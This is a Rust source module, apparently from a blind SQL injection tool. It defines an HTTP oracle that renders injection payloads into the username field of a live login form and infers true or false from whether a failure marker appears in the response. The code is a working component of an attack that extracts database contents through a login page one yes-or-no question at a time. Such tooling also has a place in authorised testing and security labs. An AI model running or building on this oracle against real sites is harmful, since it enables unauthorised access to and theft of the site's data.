//! Oracle backed by the live login form

use crate::http::{HttpRequest, Transport};
use crate::oracle::payload::InjectionTemplate;
use crate::oracle::{is_true_response, Condition, Oracle};
use std::sync::atomic::{AtomicUsize, Ordering};
use url::Url;

/// Password sent alongside every probe; only the username field matters
pub const PROBE_PASSWORD: &str = "x";

pub struct HttpOracle<'a, T: Transport> {
    transport: &'a T,
    target: Url,
    template: InjectionTemplate,
    failure_marker: String,
    requests: AtomicUsize,
}

impl<'a, T: Transport> HttpOracle<'a, T> {
    pub fn new(
        transport: &'a T,
        target: Url,
        template: InjectionTemplate,
        failure_marker: &str,
    ) -> Self {
        Self {
            transport,
            target,
            template,
            failure_marker: failure_marker.to_string(),
            requests: AtomicUsize::new(0),
        }
    }

    /// Number of oracle requests sent so far
    pub fn requests(&self) -> usize {
        self.requests.load(Ordering::Relaxed)
    }
}

impl<T: Transport> Oracle for HttpOracle<'_, T> {
    async fn check(&self, condition: &Condition) -> anyhow::Result<bool> {
        let payload = self.template.render(condition);
        let req = HttpRequest::post_form(
            self.target.clone(),
            &[("username", payload.as_str()), ("password", PROBE_PASSWORD)],
        );

        self.requests.fetch_add(1, Ordering::Relaxed);
        let resp = self.transport.execute(req).await?;
        let verdict = is_true_response(&resp, &self.failure_marker);

        tracing::debug!(
            ?condition,
            status = resp.status,
            body_len = resp.body_len,
            verdict,
            "oracle probe"
        );

        Ok(verdict)
    }
}
